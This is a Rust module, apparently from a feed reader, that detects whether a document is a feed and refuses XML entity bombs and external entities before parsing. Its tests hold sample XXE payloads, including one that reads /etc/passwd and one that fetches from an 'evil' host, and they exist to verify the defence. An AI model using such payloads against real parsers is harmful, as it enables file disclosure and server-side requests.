//! Detects the kind of a document and refuses attacks before any parser runs.
//!
//! No parser gets a document type declaration: it is the place of entity bombs and external entities, and a
//! feed needs neither. This module handles prologs, junk before them and the root elements of feeds. Must not
//! know the content of a feed.
//!
//! Entities that a document declares are never expanded, not even harmless ones; reading starts after the
//! declaration. Declarations that only make sense as an attack are refused, so that the log shows them.

use super::{Unreadable, text};

/// Maximum number of tags before a feed's root. Warnings printed by a script have a few dozen.
const MAX_UNKNOWN: usize = 10_000;

/// The kind of document found.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Front {
    /// A feed's root element starts at `at`; `junk` is true if other content precedes it.
    Feed { at: usize, junk: bool },
    /// An HTML page, with its title.
    Html(Option<String>),
    /// Another kind of document that is often mistaken for a feed.
    Other(&'static str),
    /// Nothing that resembles a feed.
    Nothing,
}

/// Finds the root element. One pass, no backtracking.
pub(super) fn front(text: &str) -> Result<Front, Unreadable> {
    let mut at = 0;
    let mut junk = false;
    let mut declared = false;
    let mut strangers = 0;
    while let Some(found) = text[at..].find('<') {
        junk |= !text[at..at + found].trim().is_empty();
        let open = at + found;
        let rest = &text[open..];
        let skipped = if rest.starts_with("<!--") {
            rest.find("-->").map(|end| end + 3)
        } else if rest.starts_with("<?") {
            rest.find("?>").map(|end| end + 2)
        } else if !declared && starts_with_ignoring_case(rest, "<!doctype") {
            // Only the first one is parsed: a broken one is searched to the end of the document.
            declared = true;
            let declaration = doctype(rest);
            if declaration[9..].trim_start().get(..4).is_some_and(|name| name.eq_ignore_ascii_case("html"))
            {
                return Ok(Front::Html(html_title(text)));
            }
            refuse_entities(declaration)?;
            Some(declaration.len())
        } else {
            match local_name(rest).to_ascii_lowercase().as_str() {
                "rss" | "rdf" | "feed" | "channel" | "entry" => return Ok(Front::Feed { at: open, junk }),
                "opml" => return Ok(Front::Other("an OPML list of feeds")),
                "urlset" | "sitemapindex" => return Ok(Front::Other("a sitemap")),
                "html" | "head" | "body" => return Ok(Front::Html(html_title(text))),
                _ => {
                    junk = true;
                    strangers += 1;
                    (strangers < MAX_UNKNOWN).then_some(1)
                }
            }
        };
        match skipped {
            Some(length) => at = open + length,
            None => break,
        }
    }
    Ok(Front::Nothing)
}

/// The declaration from `<!DOCTYPE` to its `>`, internal subset and quoted strings included.
fn doctype(text: &str) -> &str {
    let bytes = text.as_bytes();
    let (mut subset, mut quote, mut at) = (false, None, 0);
    while at < bytes.len() {
        match (bytes[at], quote) {
            (byte, Some(open)) if byte == open => quote = None,
            (_, Some(_)) => {}
            (b'<', None) if bytes[at..].starts_with(b"<!--") => {
                // A comment may contain lone apostrophes.
                match text[at..].find("-->") {
                    Some(end) => at += end + 2,
                    None => break,
                }
            }
            (byte @ (b'"' | b'\''), None) => quote = Some(byte),
            (b'[', None) => subset = true,
            (b']', None) => subset = false,
            (b'>', None) if !subset => return &text[..=at],
            _ => {}
        }
        at += 1;
    }
    // Not closed properly: it ends at the first `>`.
    match text.find('>') {
        Some(end) => &text[..=end],
        None => text,
    }
}

/// Refuses external entities and entities built from other entities. Declarations that old feeds really
/// contain are allowed: single characters (`<!ENTITY nbsp "&#160;">`) and the W3C's sets of HTML names.
fn refuse_entities(declaration: &str) -> Result<(), Unreadable> {
    for part in declaration.split("<!ENTITY").skip(1) {
        let quoted = part.find(['"', '\'']);
        let (head, value) = part.split_at(quoted.unwrap_or(part.len()));
        let value = value.get(1..).unwrap_or_default();
        let value = &value[..value.find(['"', '\'']).unwrap_or(value.len())];
        let external = head.contains("SYSTEM") || head.contains("PUBLIC");
        if external && !(head.trim_start().starts_with('%') && value.starts_with("-//W3C//ENTITIES")) {
            return Err(Unreadable::TooComplex("it declares an external entity".to_owned()));
        }
        let nested = value.split('&').skip(1).any(|reference| !reference.starts_with('#'));
        if !external && (nested || value.contains('%')) {
            return Err(Unreadable::TooComplex("it declares entities made of entities".to_owned()));
        }
    }
    Ok(())
}

fn starts_with_ignoring_case(text: &str, prefix: &str) -> bool {
    text.as_bytes().get(..prefix.len()).is_some_and(|head| head.eq_ignore_ascii_case(prefix.as_bytes()))
}

/// The name of the tag that starts here, without prefix.
fn local_name(tag: &str) -> &str {
    let name = &tag[1..];
    let name = text::head(name, 64);
    let end = name.find(|c: char| c.is_whitespace() || matches!(c, '>' | '/')).unwrap_or(name.len());
    let name = &name[..end];
    name.rsplit_once(':').map_or(name, |(_, local)| local)
}

/// The title of an HTML page, for the message that says what was received instead of a feed.
fn html_title(page: &str) -> Option<String> {
    let page = text::head(page, 64 * 1024);
    // Conversion to ASCII lower case keeps every offset.
    let lower = page.to_ascii_lowercase();
    let open = lower.find("<title")?;
    let start = open + lower[open..].find('>')? + 1;
    let end = start + lower[start..].find("</title")?;
    let title = text::title(&page[start..end], true)?;
    Some(title.chars().take(80).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn root_is_found_after_prolog_and_junk() {
        let at = |text: &str| match front(text) {
            Ok(Front::Feed { at, junk }) => Some((text[at..].to_owned(), junk)),
            _ => None,
        };
        assert_eq!(at("<?xml version='1.0'?><!-- <rss> --><rss>"), Some(("<rss>".into(), false)));
        assert_eq!(at("\n\n <rdf:RDF a='b'>"), Some(("<rdf:RDF a='b'>".into(), false)));
        assert_eq!(
            at("<br />\n<b>Warning</b>: x.php on line 3<br />\n<?xml version='1.0'?><feed>"),
            Some(("<feed>".into(), true))
        );
        assert_eq!(
            at("<!DOCTYPE rss [<!-- it's --><!ENTITY nbsp '&#160;'><!ENTITY x '<rss>'>]><rss v>"),
            Some(("<rss v>".into(), false))
        );
        assert_eq!(
            at("<!DOCTYPE rss PUBLIC '-//Netscape//DTD RSS 0.91//EN' 'http://x/'><rss>"),
            Some(("<rss>".into(), false))
        );
        assert_eq!(at("no markup"), None);
        assert_eq!(at("<!-- never closed <rss>"), None);
    }

    #[test]
    fn html_pages_are_reported_with_their_title() {
        let page = "<!doctype html><html><head><TITLE>Not &amp; found</TITLE></head>";
        assert_eq!(front(page), Ok(Front::Html(Some("Not & found".into()))));
        assert_eq!(front("<html><script>'<rss>'</script>"), Ok(Front::Html(None)));
    }

    #[test]
    fn entity_attacks_are_refused() {
        for attack in [
            "<!DOCTYPE r [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><rss>",
            "<!DOCTYPE r [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><rss>",
            "<!DOCTYPE r [<!ENTITY % a SYSTEM 'http://evil/'> %a;]><rss>",
            "<!DOCTYPE r [<!ENTITY % a 'x'><!ENTITY b '%a;%a;'>]><rss>",
        ] {
            assert!(matches!(front(attack), Err(Unreadable::TooComplex(_))), "{attack}");
        }
        let customary = "<!DOCTYPE rdf:RDF [<!ENTITY % HTMLlat1 PUBLIC \"-//W3C//ENTITIES Latin 1 for XHTML//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\"> %HTMLlat1;]><rdf:RDF>";
        assert!(matches!(front(customary), Ok(Front::Feed { .. })));
    }
}
